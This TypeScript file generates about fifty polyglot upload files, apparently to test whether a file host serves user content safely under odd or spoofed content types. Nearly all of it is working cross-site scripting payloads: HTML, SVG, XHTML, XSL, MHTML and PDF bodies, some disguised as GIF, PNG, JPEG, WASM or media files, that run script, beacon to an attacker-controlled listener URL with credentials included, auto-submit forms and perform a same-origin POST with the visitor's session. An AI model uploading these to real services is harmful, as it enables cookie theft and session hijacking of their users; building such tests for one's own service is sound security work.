/** A file that is something else than it says, or more than one thing at once. */
export interface Polyglot {
  readonly name: string;
  readonly contentType: string;
  readonly body: Buffer;
}

/** A 1x1 GIF and the start of a PNG and a JPEG, for files that begin like pictures. */
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');

const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');

/** Files that show a dialog and call `listener` with the visitor's cookies, if a browser lets them. */
export function createPolyglots(listener: string): readonly Polyglot[] {
  const attack = (name: string) =>
    `alert(1);fetch('${listener}/${name}/fetch',{credentials:'include',mode:'no-cors'});new Image().src='${listener}/${name}/image';` +
    `fetch('/object/list/box',{method:'POST',credentials:'include'}).then(()=>fetch('${listener}/${name}/own'))`;
  const html = (name: string) =>
    `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${listener}/${name}/refresh"><base href="${listener}/${name}/">` +
    `<link rel="stylesheet" href="${listener}/${name}/style"><script>${attack(name)}</script></head><body onload="${attack(name)}">` +
    `<img src="${listener}/${name}/img" onerror="${attack(name)}"><iframe src="javascript:parent.alert(2)"></iframe>` +
    `<iframe src="${listener}/${name}/frame"></iframe><form id=f action="${listener}/${name}/form" method=post></form><script>f.submit()</script></body></html>`;
  const svg = (name: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${attack(name)}"><script>${attack(name)}</script>` +
    `<image xlink:href="${listener}/${name}/image" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${listener}/${name}/frame"/></body></foreignObject></svg>`;
  const xhtml = (name: string) =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${attack(name)}</script></head><body onload="${attack(name)}"/></html>`;
  const pdf = (name: string) =>
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('${listener}/${name}/pdf'\\))>>>>endobj\n` +
    `2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(${listener}/${name}/uri)>>>>>>endobj\n` +
    `trailer<</Root 1 0 R>>\n%%EOF\n`;
  const mixed = (name: string) => `--x\r\nContent-Type: text/html\r\n\r\n${html(name)}\r\n--x--\r\n`;
  const mhtml = (name: string) =>
    `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x; type="text/html"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${html(name)}\r\n--x--\r\n`;
  const xsl = (name: string) =>
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>${html(name).replaceAll("'", '&apos;')}</xsl:template></xsl:stylesheet>"?><a/>`;

  const files: readonly [name: string, contentType: string, content: (name: string) => string | Buffer][] = [
    ['html.html', 'text/html', html],
    ['case.html', 'TeXt/HtMl', html],
    ['parameters.html', 'text/html ; charset=utf-8; x=y', html],
    ['blanks.html', '  text/html\t', html],
    ['two-types.html', 'image/png, text/html', html],
    ['two-types.svg', 'image/png, image/svg+xml', svg],
    ['type-in-parameter', 'image/png; x=,text/html', html],
    ['utf7.html', 'text/html; charset=utf-7', (name) => `+ADw-script+AD4-${attack(name)}+ADw-/script+AD4-`],
    ['utf7.txt', 'text/plain; charset=utf-7', (name) => `+ADw-script+AD4-${attack(name)}+ADw-/script+AD4-`],
    ['utf16.html', 'text/html; charset=utf-16le', (name) => utf16(html(name))],
    ['utf16.txt', 'text/plain', (name) => utf16(html(name))],
    ['html.png', 'image/png', html],
    ['png-html.png', 'image/png', (name) => Buffer.concat([PNG, Buffer.from(html(name))])],
    ['gif-html.gif', 'image/gif', (name) => Buffer.concat([GIF, Buffer.from(html(name))])],
    ['gif-script.gif', 'image/gif', (name) => `GIF89a=0;${attack(name)}`],
    ['gifar.gif', 'image/gif', (name) => Buffer.concat([GIF, Buffer.from('PK\u0003\u0004'), Buffer.from(html(name))])],
    ['jpeg-script.jpg', 'image/jpeg', (name) => Buffer.concat([JPEG, Buffer.from(`=0;${attack(name)}`)])],
    ['no-type', 'application/octet-stream', html],
    ['unknown-type', 'unknown/unknown', html],
    ['star-type', '*/*', html],
    ['nonsense-type', 'html', html],
    ['plain.txt', 'text/plain', html],
    ['data.json', 'application/json', (name) => JSON.stringify({ html: html(name) })],
    ['data.csv', 'text/csv', html],
    ['style.css', 'text/css', (name) => `@import '${listener}/${name}/style'; /* ${html(name)} */`],
    ['script.js', 'text/javascript', attack],
    ['module.wasm', 'application/wasm', (name) => Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.from(html(name))])],
    ['image.svg', 'image/svg+xml', svg],
    ['case.svg', 'IMAGE/SVG+XML', svg],
    ['made-up.xml', 'image/png+xml', xhtml],
    ['page.xhtml', 'application/xhtml+xml', xhtml],
    ['document.xml', 'application/xml', xhtml],
    ['document-text.xml', 'text/xml', xhtml],
    ['feed.rss', 'application/rss+xml', xhtml],
    ['formula.mml', 'application/mathml+xml', xhtml],
    ['style.xsl', 'text/xsl', xsl],
    ['transformed.xml', 'text/xml', xsl],
    ['archive.mht', 'multipart/related', mhtml],
    ['mail.eml', 'message/rfc822', mhtml],
    ['mixed', 'multipart/x-mixed-replace; boundary=x', mixed],
    ['script.pdf', 'application/pdf', pdf],
    ['html.pdf', 'application/pdf', (name) => `${html(name)}\n${pdf(name)}`],
    ['page.hta', 'application/hta', html],
    ['page.appcache', 'text/cache-manifest', html],
    ['audio.mp3', 'audio/mpeg', html],
    ['video.mp4', 'video/mp4', html],
    ['font.woff', 'font/woff', html],
    ['movie.swf', 'application/x-shockwave-flash', html],
  ];
  return files.map(([name, contentType, content]) => {
    const made = content(name);
    return { name, contentType, body: typeof made === 'string' ? Buffer.from(made) : made };
  });
}
